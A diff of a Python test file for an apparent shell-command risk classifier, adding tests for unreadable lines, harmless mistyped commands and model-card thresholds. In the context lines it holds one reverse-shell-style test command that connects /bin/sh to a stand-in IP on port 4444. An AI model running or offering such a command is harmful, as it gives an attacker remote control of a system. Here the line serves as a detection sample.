@@ -97,6 +97,21 @@ def test_heard_it_asks_by_key_and_says_what_is_not_known() -> None:
     assert "socket" in risk.reasoning
 
 
+def test_heard_of_a_line_that_was_not_read_in_full_it_says_so() -> None:
+    risk = raised(Risk(10), SURE, packaged(), (), unread=True)
+    assert (risk.score, risk.findings[0].id) == (SCORE, RULE)
+    assert "can't be read in full" in risk.reasoning
+    assert raised(Risk(10), Opinion(0.1), packaged(), (), unread=True).score == 10
+    assert raised(Risk(97), SURE, packaged(), (), unread=True).score == 97
+
+
+@pytest.mark.parametrize(
+    "line", ["echo 'it is late", "git commit -m 'fix", "if true; then", "ls (a)", "npm run build &&", "cat <<END"]
+)
+def test_a_slip_of_the_hand_alone_is_no_question(line: str) -> None:
+    assert verdict(line).source != "classifier"
+
+
 UNKNOWN_BUT_TELLING = "frobsh -e /bin/sh --connect 203.0.113.9:4444 --daemonize payload"
 
 
@@ -133,6 +148,10 @@ def test_the_card_belongs_to_the_weights_and_keeps_its_promises() -> None:
     assert 0.5 <= packaged().threshold < 1
     assert card["dev"]["with_rules"]["auc"] >= 0.985
     assert card["heard_on_dev"]["ordinary"]["added"] <= 2
+    for told in card["heard_with_programs_left_out"].values():
+        dangerous, ordinary = told["dangerous"], told["ordinary"]
+        assert dangerous["added"] >= 0.1 * (dangerous["lines"] - dangerous["by_rules"])
+        assert ordinary["added"] <= 0.01 * ordinary["lines"]
     assert card["limits"]
 
 
